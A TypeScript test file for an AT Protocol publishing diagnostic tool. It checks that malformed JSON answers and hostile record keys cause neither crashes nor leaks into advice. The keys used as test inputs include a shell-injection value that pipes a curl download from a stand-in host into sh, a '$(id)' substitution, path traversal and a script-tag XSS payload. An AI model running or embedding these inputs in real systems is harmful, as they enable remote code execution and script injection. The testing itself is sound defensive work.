import { describe, expect, it } from 'vitest';
import { diagnose } from '../../../packages/masthead-doctor/src/doctor/diagnose.ts';
import { ClientError, fetchCardView, fetchRecordUris, resolveIdentity } from '../../../src/atproto/index.ts';
import { PdsReader } from '../../../src/atproto/node/repository/pds-reader.ts';
import { RepositoryError } from '../../../src/atproto/repository/repository-error.ts';

const DID = 'did:plc:aaaaaaaaaaaaaaaaaaaaaaaa';
const ACCOUNT = `at://${DID}`;
const HOME = 'https://victim.example.com';
const LINK = `${HOME}/essay`;
const DEPTH = 20_000;
/** What stands where a text belongs, as JSON. `String` of either throws. */
const NO_WORDS = [
  ['an object with a toString of its own', '{"toString":1,"valueOf":1}'],
  ['lists deeper than the stack', `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`],
] as const;
// Replaced by one of them once it is JSON.
const HERE = '(no words)';

interface Answers {
  readonly document?: object;
  readonly publication?: object;
  readonly article?: object;
  readonly backlink?: object;
}

const PLACES: readonly (readonly [string, Answers])[] = [
  ["a document's site", { article: { site: HERE } }],
  ["a document's path", { article: { path: HERE } }],
  ["both, and the publication's url", { article: { site: HERE, path: HERE }, publication: { url: HERE } }],
  ['a path below a site that leads nowhere', { article: { site: 'nowhere', path: HERE } }],
  [
    "an icon's type",
    { publication: { url: LINK, icon: { $type: 'blob', ref: { $link: 'x' }, mimeType: HERE, size: 1 } } },
  ],
  ["a theme's colour", { publication: { url: LINK, basicTheme: { accent: { r: HERE, g: 1, b: 1 } } } }],
  ['labels', { publication: { url: LINK, labels: { $type: HERE, values: [{ val: HERE }] } } }],
  ["a service's id", { document: { service: [{ id: HERE, serviceEndpoint: HERE }] } }],
  ['the handles of an account', { document: { alsoKnownAs: [HERE] } }],
  ['a backlink', { backlink: { did: HERE, rkey: HERE } }],
];

/** A directory, a backlink index and a PDS that answer with it; each record has the key. */
function network({ document, publication, article, backlink }: Answers, noWords: string, key = 'p'): typeof fetch {
  const service = [{ id: '#atproto_pds', serviceEndpoint: 'https://pds.example.com' }];
  const publications = [
    { uri: `${ACCOUNT}/site.standard.publication/${key}`, cid: 'c', value: { url: HOME, name: 'x', ...publication } },
  ];
  const documents = [
    {
      uri: `${ACCOUNT}/site.standard.document/${key}`,
      cid: 'c',
      value: {
        site: publications[0]?.uri,
        title: 'x',
        path: '/other',
        publishedAt: '2026-01-01T00:00:00Z',
        ...article,
      },
    },
  ];
  const answer = ({ hostname, pathname, searchParams }: URL): object | null => {
    if (hostname === 'plc.directory') return { id: DID, alsoKnownAs: [], service, ...document };
    if (pathname.endsWith('getBacklinks')) return { records: [{ did: DID, rkey: key, ...backlink }] };
    if (!pathname.endsWith('listRecords')) return null;
    return { records: searchParams.get('collection') === 'site.standard.document' ? documents : publications };
  };
  return async (input) => {
    const body = answer(new URL(String(input)));
    return body
      ? new Response(JSON.stringify(body).replaceAll(JSON.stringify(HERE), noWords))
      : new Response('', { status: 404 });
  };
}

describe.each(NO_WORDS)('%s where a text belongs', (_, noWords) => {
  it.each(PLACES)("ends no stranger's diagnosis: %s", async (_place, answers) => {
    const config = { fetch: network(answers, noWords), resolveTxt: async () => [] };
    for (const account of [undefined, DID]) {
      const { steps } = await diagnose(config, LINK, { account });
      expect(steps.length).toBeGreaterThan(0);
    }
  });

  it('is at most an error of the client: what a host calls its error', async () => {
    const get: typeof fetch = async () => new Response(`{"error":${noWords},"message":${noWords}}`, { status: 400 });
    const options = { fetch: get, cache: { get: () => undefined, set: () => undefined } };
    const config = { ...options, baseUrl: 'https://appview.example.com' };
    const asked = [fetchCardView(config, LINK), resolveIdentity(options, DID), fetchRecordUris(options, LINK)];
    for (const outcome of await Promise.allSettled(asked)) {
      expect(outcome).toMatchObject({ status: 'rejected', reason: { name: 'ClientError' } });
    }
    const account = { did: DID, pds: 'https://pds.example.com' };
    await expect(new PdsReader(account, get).query('x', {})).rejects.toBeInstanceOf(RepositoryError);
  });

  it.each(PLACES)('is at most an error of the client: %s', async (_place, answers) => {
    const config = { fetch: network(answers, noWords), cache: { get: () => undefined, set: () => undefined } };
    const asked = [fetchRecordUris(config, LINK), resolveIdentity(config, DID)];
    for (const outcome of await Promise.allSettled(asked)) {
      if (outcome.status === 'rejected') expect(outcome.reason).toBeInstanceOf(ClientError);
    }
  });
});

// A record key goes into commands that are copied into a shell, into tags that are copied into a
// page, and into addresses.
// biome-ignore lint/suspicious/noTemplateCurlyInString: it is a shell's
describe.each(['x;curl${IFS}evil.example|sh', '$(id)', '..', '"><script>alert(1)</script>', `k${'k'.repeat(100_000)}`])(
  'a record with the key %.30s, which is none',
  (key) => {
    const get = network({ article: { path: '/essay' } }, '', key);

    it('stands in no advice of a diagnosis', async () => {
      for (const link of [LINK, HOME]) {
        const said = JSON.stringify(await diagnose({ fetch: get, resolveTxt: async () => [] }, link));
        expect(said).not.toContain(`/${JSON.stringify(key).slice(1, -1)}`);
      }
    });

    it('is no record that an AppView is asked about', async () => {
      const options = { fetch: get, cache: { get: () => undefined, set: () => undefined } };
      for (const link of [LINK, HOME]) expect(await fetchRecordUris(options, link)).toEqual([]);
    });
  },
);
